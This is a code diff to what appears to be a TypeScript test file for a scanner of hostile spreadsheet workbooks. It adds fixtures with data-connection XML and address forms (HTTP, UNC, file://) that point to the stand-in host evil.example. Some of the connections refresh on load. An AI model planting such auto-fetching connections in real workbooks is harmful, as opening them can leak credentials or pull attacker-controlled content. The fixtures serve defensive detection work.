@@ -71,10 +71,38 @@ const fetched = [
   '<DataBinding FileBinding="true" FileBindingName="//evil.example/share/a.xml"/>',
 ];
 
+/** What says where a workbook has its values from. */
+const connections = [
+  '<connection id="1" name="x" type="5" odcFile="http://evil.example/x.odc" onlyUseConnectionFile="1" refreshOnLoad="1"/>',
+  '<connection id="1" name="x" type="5" odcFile="\\\\evil.example\\s\\x.odc"/>',
+  '<connection id="1" name="x" type="1" sourceFile="\\\\evil.example\\s\\x.mdb" refreshOnLoad="1"/>',
+  '<connection id="1" name="x" type="100"/>',
+  '<queryTable name="x" connectionId="1" refreshOnLoad="1"/>',
+];
+
+/** Addresses with a server, in the ways that programs read. */
+const servers = [
+  'http://evil.example/x',
+  '\\\\evil.example\\x',
+  '//evil.example/x',
+  'file://evil.example/x',
+  'http:evil',
+];
+
 const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
   ...places.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'a formula that fetches']),
   ...fetched.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
   ...inPieces.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'locked or broken']),
+  ...connections.map((one): (typeof workbooks)[number] => [
+    one,
+    workbook(`<connections xmlns="${main}">${one}</connections>`),
+    'its values from elsewhere',
+  ]),
+  ...servers.map((place): (typeof workbooks)[number] => [
+    `the address ${place} in an attribute that nobody knows`,
+    workbook(sheet(`<v unknown="${place}"/>`)),
+    'fetched from elsewhere',
+  ]),
   [
     'text of Word in a formula',
     workbook(
